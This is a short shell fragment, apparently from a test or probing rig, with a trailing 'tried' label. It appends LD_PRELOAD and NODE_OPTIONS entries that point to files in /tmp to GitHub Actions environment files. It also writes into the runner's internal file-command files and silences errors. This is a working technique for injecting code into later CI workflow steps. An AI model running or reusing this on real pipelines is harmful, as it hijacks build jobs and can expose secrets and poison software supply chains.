for v in GITHUB_ENV GITHUB_PATH GITHUB_OUTPUT GITHUB_STATE GITHUB_STEP_SUMMARY; do
  eval "f=\${$v:-}"
  [ -n "$f" ] && { echo "LD_PRELOAD=/tmp/$NONCE.so" >> "$f"; echo "NODE_OPTIONS=--require /tmp/$NONCE.js" >> "$f"; } 2>/dev/null
done
find "$RIG_RUNNER" -path '*_runner_file_commands*' -type f 2>/dev/null | while read -r f; do { echo "X=$NONCE" >> "$f"; } 2>/dev/null; done
for f in set_env add_path set_output save_state step_summary; do { echo "X=$NONCE" >> "$RIG_RUNNER/_work/_temp/_runner_file_commands/$f"; } 2>/dev/null; done
tried 'the files of later steps decide'
